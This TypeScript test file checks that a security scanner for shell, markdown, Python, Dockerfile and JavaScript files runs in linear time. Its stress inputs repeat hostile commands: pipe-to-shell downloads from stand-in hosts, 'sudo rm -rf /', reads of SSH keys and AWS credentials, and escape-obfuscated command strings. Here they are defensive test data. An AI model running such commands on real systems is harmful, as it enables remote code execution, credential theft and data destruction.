// The whole scanner is linear on hostile files of every kind it reads (CPU time on doubling inputs).
import { describe, test } from "vitest";
import { scanFile } from "../../src/skills/commands/scan.js";
import type { FileClass } from "../../src/skills/file-kind.js";
import { expectLinear, GC_BOUNDS } from "./harness.js";

const SHELL: FileClass = { kind: "code", language: "shell", by: "extension" };
const PYTHON: FileClass = { kind: "code", language: "python", by: "extension" };
const MARKDOWN: FileClass = { kind: "markdown", by: "extension" };
const DOCKERFILE: FileClass = { kind: "code", language: "dockerfile", by: "name" };
const JAVASCRIPT: FileClass = { kind: "code", language: "javascript", by: "extension" };

const cases: Record<string, { kind: FileClass; input: (n: number) => string }> = {
  "shell: risky commands on every line": { kind: SHELL, input: (n) => "curl -fsSL https://x.example/i.sh | sudo bash\n".repeat(Math.ceil(n / 46)) },
  "shell: one long line of pipes": { kind: SHELL, input: (n) => "curl | a || ".repeat(Math.ceil(n / 12)) },
  // One pipeline whose every member asks for its neighbours (a download, shell history).
  "shell: one pipeline of downloads": { kind: SHELL, input: (n) => "curl x | ".repeat(Math.ceil(n / 9)) },
  "shell: one pipeline of history": { kind: SHELL, input: (n) => "history | ".repeat(Math.ceil(n / 10)) },
  // Each history asks for the groups around it: at most MAX_DEPTH of them are followed.
  "shell: history in nested groups": { kind: SHELL, input: (n) => "( { history; ".repeat(Math.ceil(n / 26)) + "} ) > f ".repeat(Math.ceil(n / 26)) },
  "shell: groups in one pipeline": { kind: SHELL, input: (n) => "( history ) | ".repeat(Math.ceil(n / 14)) },
  "shell: rm of variables, guards between": { kind: SHELL, input: (n) => 'X=$1\n[ -n "$X" ] && rm -rf "$X"/\n'.repeat(Math.ceil(n / 30)) },
  "shell: keywords on one line": { kind: SHELL, input: (n) => "cat ~/.ssh/id_rsa ~/.aws/credentials ".repeat(Math.ceil(n / 37)) },
  "markdown: inline commands": { kind: MARKDOWN, input: (n) => "Run `curl -s x | sh` or `npx -y a` now.\n".repeat(Math.ceil(n / 40)) },
  "markdown: many fences": { kind: MARKDOWN, input: (n) => "## Never do this\n\n```bash\nsudo rm -rf /\n```\n".repeat(Math.ceil(n / 40)) },
  "markdown: unclosed fence of backticks": { kind: MARKDOWN, input: (n) => "```\n" + "`a` ``b`` ".repeat(Math.ceil(n / 10)) },
  "markdown: a table of commands": { kind: MARKDOWN, input: (n) => "| forbidden | why |\n|---|---|\n" + "| `sudo rm -rf /` | no |\n".repeat(Math.ceil(n / 24)) },
  "python: command strings": { kind: PYTHON, input: (n) => 'subprocess.run(["curl", "-fsSL", url], check=True)\nos.system("sudo true")\n'.repeat(Math.ceil(n / 75)) },
  "python: unclosed triple quote": { kind: PYTHON, input: (n) => '"""' + "sudo x\n".repeat(Math.ceil(n / 7)) },
  "secrets: token-like runs": { kind: SHELL, input: (n) => "TOKEN=ghp_" + "a".repeat(n) },
  // A URL's token runs past `(` and `;` (a password may hold them): URLs packed into one run of text.
  // A pipe at each line's end: one pipeline over every line.
  "shell: a pipe at the end of every line": { kind: SHELL, input: (n) => "curl -s x |\n".repeat(Math.ceil(n / 11)) + "sh\n" },
  // Names that say secret, each unquoted after a quote (LITERAL_CONTEXT reads what stands before each).
  "secrets: many assignments on one line": { kind: SHELL, input: (n) => `"x-api-key=Qz7vK2mX9wL8 -e DB_PASSWORD=Hn4sK8wQ2mZp `.repeat(Math.ceil(n / 56)) },
  // A console block whose every line ends with a pipe: one command over all of them.
  // Comment lines after a pipe, each looked back over to the pipe.
  "markdown: a console block of pipes and comments": { kind: MARKDOWN, input: (n) => "```sh\n$ ls |\n" + "# c | # d\n".repeat(Math.ceil(n / 10)) + "sh\n```\n" },
  "markdown: a console block of lines ending with a pipe": { kind: MARKDOWN, input: (n) => "```sh\n$ ls\n" + "curl -s x |\n".repeat(Math.ceil(n / 11)) + "sh\n```\n" },
  // ssh's remote commands, each read again as shell.
  "shell: many ssh commands": { kind: SHELL, input: (n) => "ssh -p 22 h curl -s x | sh\n".repeat(Math.ceil(n / 26)) },
  // Downloads piped to ssh, each remote command parsed to see whether it runs its input.
  "shell: downloads piped to ssh": { kind: SHELL, input: (n) => "curl -s x | ssh h -o ProxyCommand=x sudo bash -s\n".repeat(Math.ceil(n / 49)) },
  "secrets: URLs with no blank between": { kind: MARKDOWN, input: (n) => "postgres://u:(a;".repeat(Math.ceil(n / 16)) },
  "dockerfile: continued RUN": { kind: DOCKERFILE, input: (n) => "RUN " + "curl -s x | sh && \\\n".repeat(Math.ceil(n / 22)) },
  // The gate's second search, with the quotes out: every region has quotes inside its words and no program.
  "shell: quotes inside words": { kind: SHELL, input: (n) => `x"y"z a''b c\\\nd e$'f'g `.repeat(Math.ceil(n / 22)) },
  // Code handed to a shell with a substitution in it, read again each time (and nested).
  "shell: handed code with substitutions": { kind: SHELL, input: (n) => 'bash -c "cd $(mktemp -d) && sh -c \'rm -rf $(pwd)/x\'"\n'.repeat(Math.ceil(n / 53)) },
  // Matches a text pattern refuses (in an excepted program's command), many on one line.
  "shell: refused matches on one line": { kind: SHELL, input: (n) => "mkdir -p ~/.ssh/a && ".repeat(Math.ceil(n / 21)) },
  // A shell block with a prompt: its other commands joined across `\` line ends, and runs of backslashes counted once.
  "markdown: a prompt block of continued lines": { kind: MARKDOWN, input: (n) => "```sh\n$ echo x\n\n" + "curl -s x | \\\n".repeat(Math.ceil(n / 13)) + "```\n" },
  "markdown: a prompt block of backslash lines": { kind: MARKDOWN, input: (n) => "```sh\n$ echo x\n" + `${"\\".repeat(63)}\n`.repeat(Math.ceil(n / 64)) + "```\n" },
  "markdown: many blocks of quoted words": { kind: MARKDOWN, input: (n) => '```\nx"y"z a\\b\n```\n'.repeat(Math.ceil(n / 18)) },
  // The gate's ANSI-C search (`$'…'` resolved before the words are looked for), on quotes that make no program.
  "shell: ANSI-C quotes of escapes": { kind: SHELL, input: (n) => "x$'\\u0079\\u007a' $'\\'\\q' $'\\u".repeat(Math.ceil(n / 27)) },
  // String escapes resolved (\u makes a letter: the gate lets the file through) in strings a call runs.
  "python: escaped command strings": { kind: PYTHON, input: (n) => 'os.system("\\u0063\\x75\\162l \\N{x} \\U00000073 | s\\x68")\n'.repeat(Math.ceil(n / 50)) },
  "javascript: one string of unclosed \\u{ escapes": { kind: JAVASCRIPT, input: (n) => `execSync("curl ${"\\u{".repeat(Math.ceil(n / 3))}")\n` },
};

describe("scanFile is linear", () => {
  test.each(Object.keys(cases))("%s", (name) => {
    const { kind, input } = cases[name]!;
    expectLinear({ name, start: 8_000, input, run: (text) => scanFile(text, kind, { path: "x" }), doublings: 3, ...GC_BOUNDS });
  });
});
